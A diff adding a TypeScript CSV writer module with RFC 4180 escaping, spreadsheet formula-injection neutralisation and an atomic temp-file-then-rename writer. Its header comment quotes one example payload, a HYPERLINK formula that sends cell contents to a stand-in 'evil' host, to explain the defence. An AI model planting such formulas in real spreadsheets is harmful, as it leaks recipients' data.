@@ -1,0 +1,292 @@
+/**
+ * CSV writing: a fast cell escaper and row serializer (RFC 4180), formula-injection
+ * neutralisation, and `AtomicFileWriter`, which writes a file so that the target is either
+ * the complete new file or untouched (temp file in the same directory, then rename).
+ *
+ * Formula injection: Excel, WPS and LibreOffice execute a cell that begins with `=`, `+`,
+ * `-` or `@` as a formula (and a leading tab or CR is stripped before that check by some of
+ * them), so a roster cell such as `=HYPERLINK("http://evil/?"&A1,"点击")` copied from input
+ * to output would run on the caseworker's machine when the result is opened. Neutralising
+ * puts an apostrophe `'` in front, which spreadsheets show as text and do not execute. It
+ * changes the cell, so it is applied only to cells that come from input text: a negative
+ * number such as `-5` *is* neutralised (`'-5`) when it is text copied from the input, which
+ * is why `serializeRow` neutralises string cells only and leaves numbers the program
+ * computed alone, and why `neutraliseFormula` is exported for callers that choose per cell.
+ */
+import { randomBytes } from 'node:crypto';
+import { open, realpath, rename, stat, unlink, type FileHandle } from 'node:fs/promises';
+import { basename, dirname, join } from 'node:path';
+import iconv from 'iconv-lite';
+import { BencalcError } from '../errors.js';
+import type { Encoding } from './encoding.js';
+
+export const UTF8_BOM = '\uFEFF';
+
+/** What a cell may hold; `null` and `undefined` are written as empty cells. */
+export type CellValue = string | number | bigint | boolean | null | undefined;
+
+/** A cell must be quoted when it holds a quote, comma, CR or LF, or starts or ends with whitespace. */
+const NEEDS_QUOTES = /[",\r\n]|^\s|\s$/;
+const QUOTES = /"/g;
+
+/** One cell, quoted when needed (quotes inside doubled). */
+export function escapeCell(cell: string): string {
+  if (cell.length === 0 || !NEEDS_QUOTES.test(cell)) return cell;
+  return '"' + cell.replace(QUOTES, '""') + '"';
+}
+
+/**
+ * A cell that a spreadsheet would execute (leading `=`, `+`, `-`, `@`, tab or CR) with an
+ * apostrophe in front; any other cell unchanged. See the module comment for when to use it.
+ */
+export function neutraliseFormula(cell: string): string {
+  if (cell.length === 0) return cell;
+  const c = cell.charCodeAt(0);
+  // = + - @ TAB CR
+  if (c === 61 || c === 43 || c === 45 || c === 64 || c === 9 || c === 13) return "'" + cell;
+  return cell;
+}
+
+export interface RowOptions {
+  /**
+   * Neutralise formula-like string cells: `true` for all string cells, or a per-column mask
+   * (true = this column comes from input text). Numbers and booleans are never touched.
+   * Default false.
+   */
+  neutralise?: boolean | readonly boolean[];
+  /** Line terminator (default CRLF, as RFC 4180 and Excel). */
+  newline?: '\r\n' | '\n';
+}
+
+function cellText(v: CellValue, neutralise: boolean): string {
+  if (typeof v === 'string') return escapeCell(neutralise ? neutraliseFormula(v) : v);
+  if (v === null || v === undefined) return '';
+  return String(v);
+}
+
+/**
+ * One row with its line terminator. A row of one empty cell is written `""`, since an empty
+ * line would be read as no record at all.
+ */
+export function serializeRow(cells: readonly CellValue[], opts: RowOptions = {}): string {
+  const nl = opts.newline ?? '\r\n';
+  const n = opts.neutralise ?? false;
+  let out = '';
+  for (let i = 0; i < cells.length; i++) {
+    const neut = n === true || (n !== false && n[i] === true);
+    out += (i === 0 ? '' : ',') + cellText(cells[i], neut);
+  }
+  if (out.length === 0 && cells.length === 1) out = '""';
+  return out + nl;
+}
+
+/** Rows to one CSV text, with a UTF-8 BOM in front when asked. */
+export function serializeCsv(rows: Iterable<readonly CellValue[]>, opts: RowOptions & { bom?: boolean } = {}): string {
+  let out = opts.bom === true ? UTF8_BOM : '';
+  for (const row of rows) out += serializeRow(row, opts);
+  return out;
+}
+
+function ioError(file: string, en: string, zh: string, cause?: unknown): BencalcError {
+  return new BencalcError({ code: 'IO', file, en: `${file}: ${en}`, zh: `${file}：${zh}`, ...(cause !== undefined && { cause }) });
+}
+
+function errCode(e: unknown): string | undefined {
+  const c = (e as { code?: unknown } | null)?.code;
+  return typeof c === 'string' ? c : undefined;
+}
+
+/**
+ * Where writing `target` really lands: its real path when it exists (through symlinks),
+ * else the real path of its directory joined with its name. IO error when the directory
+ * does not exist or the target is a directory.
+ */
+export async function resolveOutputPath(target: string): Promise<{ path: string; exists: boolean; dev?: number; ino?: number; mode?: number }> {
+  try {
+    const real = await realpath(target);
+    const st = await stat(real);
+    if (st.isDirectory()) throw ioError(target, 'is a directory; give a file name for the output', '是目录；请给出输出文件名');
+    return { path: real, exists: true, dev: st.dev, ino: st.ino, mode: st.mode };
+  } catch (e) {
+    if (e instanceof BencalcError) throw e;
+    if (errCode(e) !== 'ENOENT') throw ioError(target, `cannot be resolved (${errCode(e) ?? String(e)})`, `无法解析路径（${errCode(e) ?? String(e)}）`, e);
+  }
+  const dir = dirname(target);
+  try {
+    return { path: join(await realpath(dir), basename(target)), exists: false };
+  } catch (e) {
+    throw ioError(target, `the directory ${dir} does not exist`, `目录 ${dir} 不存在`, e);
+  }
+}
+
+/**
+ * IO error when writing `target` would overwrite one of `inputs` (same real path, or the
+ * same file through a hard link). Inputs that do not exist (or are `-`, stdin) are skipped.
+ */
+export async function assertNotSameFile(target: string, inputs: readonly string[]): Promise<void> {
+  const out = await resolveOutputPath(target);
+  for (const input of inputs) {
+    if (input === '-') continue;
+    let real: string;
+    let same: boolean;
+    try {
+      real = await realpath(input);
+      same = real === out.path;
+      if (!same && out.exists) {
+        const st = await stat(real);
+        same = st.dev === out.dev && st.ino === out.ino;
+      }
+    } catch {
+      continue;
+    }
+    if (same) {
+      throw new BencalcError({
+        code: 'IO',
+        file: target,
+        en: `refusing to write ${target}: it is the input file ${input}; choose another output path`,
+        zh: `拒绝写入 ${target}：它就是输入文件 ${input}；请另选输出路径`,
+      });
+    }
+  }
+}
+
+export interface AtomicWriterOptions {
+  /** Input files the target must not be (IO error if it is). */
+  inputs?: readonly string[];
+  /** Output encoding (default utf8). */
+  encoding?: Encoding;
+  /** Start a UTF-8 file with a BOM, which Excel needs to open UTF-8 CSV correctly. */
+  bom?: boolean;
+  /** Buffer this many characters before writing (default 64 Ki). */
+  chunkSize?: number;
+}
+
+/**
+ * Writes `target` atomically: everything goes to `.bencalc-tmp-<pid>-<random>` in the same
+ * directory (so the rename cannot cross file systems), in ~64 KiB writes; `commit()` syncs
+ * and renames it onto the target, `abort()` removes it. The target is either the complete
+ * new file or left as it was.
+ *
+ * `write()` returns `undefined` while it only buffered, and a promise when it started a
+ * disk write: await it (backpressure). That promise never rejects; a write error is thrown
+ * by the next `write()` or by `commit()`, so an ignored promise cannot crash the process.
+ */
+export class AtomicFileWriter {
+  readonly target: string;
+  readonly tempPath: string;
+  private readonly realTarget: string;
+  private fh: FileHandle | undefined;
+  private readonly encoding: Encoding;
+  private readonly chunkSize: number;
+  private pending = '';
+  private chain: Promise<void> = Promise.resolve();
+  private error: unknown;
+  private state: 'open' | 'committed' | 'aborted' = 'open';
+
+  private constructor(target: string, realTarget: string, tempPath: string, fh: FileHandle, opts: AtomicWriterOptions) {
+    this.target = target;
+    this.realTarget = realTarget;
+    this.tempPath = tempPath;
+    this.fh = fh;
+    this.encoding = opts.encoding ?? 'utf8';
+    this.chunkSize = opts.chunkSize ?? 64 * 1024;
+    if (opts.bom === true && this.encoding === 'utf8') this.pending = UTF8_BOM;
+  }
+
+  /** Check the target (directory exists, not an input) and create the temp file. */
+  static async open(target: string, opts: AtomicWriterOptions = {}): Promise<AtomicFileWriter> {
+    await assertNotSameFile(target, opts.inputs ?? []);
+    const out = await resolveOutputPath(target);
+    const tempPath = join(dirname(out.path), `.bencalc-tmp-${process.pid}-${randomBytes(6).toString('hex')}`);
+    let fh: FileHandle;
+    try {
+      fh = await open(tempPath, 'wx', 0o666);
+    } catch (e) {
+      throw ioError(target, `cannot create a file in ${dirname(out.path)} (${errCode(e) ?? String(e)})`, `无法在 ${dirname(out.path)} 中创建文件（${errCode(e) ?? String(e)}）`, e);
+    }
+    if (out.mode !== undefined) {
+      // Keep the permissions of the file being replaced.
+      await fh.chmod(out.mode & 0o7777).catch(() => undefined);
+    }
+    return new AtomicFileWriter(target, out.path, tempPath, fh, opts);
+  }
+
+  /** Buffer `text`; returns a promise to await when a chunk went to disk. */
+  write(text: string): Promise<void> | undefined {
+    if (this.state !== 'open') throw ioError(this.target, `write after ${this.state}`, `已${this.state === 'committed' ? '提交' : '放弃'}后又写入`);
+    if (this.error !== undefined) throw this.failure();
+    this.pending += text;
+    if (this.pending.length >= this.chunkSize) return this.flushPending();
+    return undefined;
+  }
+
+  /** `write(serializeRow(cells, opts))`. */
+  writeRow(cells: readonly CellValue[], opts?: RowOptions): Promise<void> | undefined {
+    return this.write(serializeRow(cells, opts));
+  }
+
+  /** Write out everything buffered. */
+  async flush(): Promise<void> {
+    await this.flushPending();
+    if (this.error !== undefined) throw this.failure();
+  }
+
+  private flushPending(): Promise<void> {
+    if (this.pending.length === 0) return this.chain;
+    const text = this.pending;
+    this.pending = '';
+    const data = this.encoding === 'utf8' ? Buffer.from(text, 'utf8') : iconv.encode(text, 'gb18030');
+    const fh = this.fh;
+    this.chain = this.chain.then(async () => {
+      if (this.error !== undefined || fh === undefined) return;
+      try {
+        let off = 0;
+        while (off < data.length) {
+          const { bytesWritten } = await fh.write(data, off, data.length - off);
+          off += bytesWritten;
+        }
+      } catch (e) {
+        this.error = e;
+      }
+    });
+    return this.chain;
+  }
+
+  private failure(): BencalcError {
+    const e = this.error;
+    if (e instanceof BencalcError) return e;
+    return ioError(this.target, `cannot be written (${errCode(e) ?? String(e)})`, `无法写入（${errCode(e) ?? String(e)}）`, e);
+  }
+
+  /** Flush, sync and rename the temp file onto the target. On failure the temp file is removed. */
+  async commit(): Promise<void> {
+    if (this.state === 'committed') return;
+    if (this.state === 'aborted') throw ioError(this.target, 'commit after abort', '放弃后又提交');
+    try {
+      await this.flushPending();
+      if (this.error !== undefined) throw this.failure();
+      const fh = this.fh!;
+      await fh.sync();
+      this.fh = undefined;
+      await fh.close();
+      await rename(this.tempPath, this.realTarget);
+      this.state = 'committed';
+    } catch (e) {
+      await this.abort();
+      if (e instanceof BencalcError) throw e;
+      throw ioError(this.target, `cannot be written (${errCode(e) ?? String(e)})`, `无法写入（${errCode(e) ?? String(e)}）`, e);
+    }
+  }
+
+  /** Drop everything: close and remove the temp file; the target is untouched. Idempotent. */
+  async abort(): Promise<void> {
+    if (this.state !== 'open') return;
+    this.state = 'aborted';
+    this.pending = '';
+    await this.chain;
+    const fh = this.fh;
+    this.fh = undefined;
+    if (fh !== undefined) await fh.close().catch(() => undefined);
+    await unlink(this.tempPath).catch(() => undefined);
+  }
+}
